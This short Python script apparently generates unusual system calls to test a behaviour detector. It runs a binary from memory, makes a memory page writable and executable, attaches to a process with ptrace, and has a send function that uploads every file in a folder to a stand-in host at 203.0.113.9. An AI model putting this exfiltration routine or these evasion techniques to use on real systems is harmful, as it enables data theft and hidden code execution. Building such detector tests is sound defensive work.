"""Calls that no program of the distribution makes: deeds.py memory|executable|trace PID|send FOLDER."""

import ctypes
import os
import socket
import sys
from pathlib import Path

LIBC = ctypes.CDLL(None, use_errno=True)
PTRACE_ATTACH, PTRACE_DETACH = 16, 17


def memory() -> None:
    """Run a program that is in no file system."""
    fd = os.memfd_create("x", 0)
    os.write(fd, Path("/usr/bin/true").read_bytes())
    os.execv(f"/proc/self/fd/{fd}", ["x"])


def executable() -> None:
    """Make a page writable and executable."""
    LIBC.mmap.restype = ctypes.c_void_p
    page = LIBC.mmap(None, 4096, 3, 0x22, -1, 0)
    LIBC.mprotect(ctypes.c_void_p(page), 4096, 7)


def trace(pid: str) -> None:
    """Attach to a process and let it go."""
    LIBC.ptrace(PTRACE_ATTACH, int(pid), None, None)
    os.waitpid(int(pid), 0x40000000)
    LIBC.ptrace(PTRACE_DETACH, int(pid), None, None)


def send(folder: str) -> None:
    """Read all files of a folder and send them."""
    content = b"".join(path.read_bytes() for path in sorted(Path(folder).iterdir()))
    with socket.create_connection(("203.0.113.9", 8443)) as peer:
        peer.sendall(b"POST / HTTP/1.0\r\n\r\n" + content)


globals()[sys.argv[1]](*sys.argv[2:])
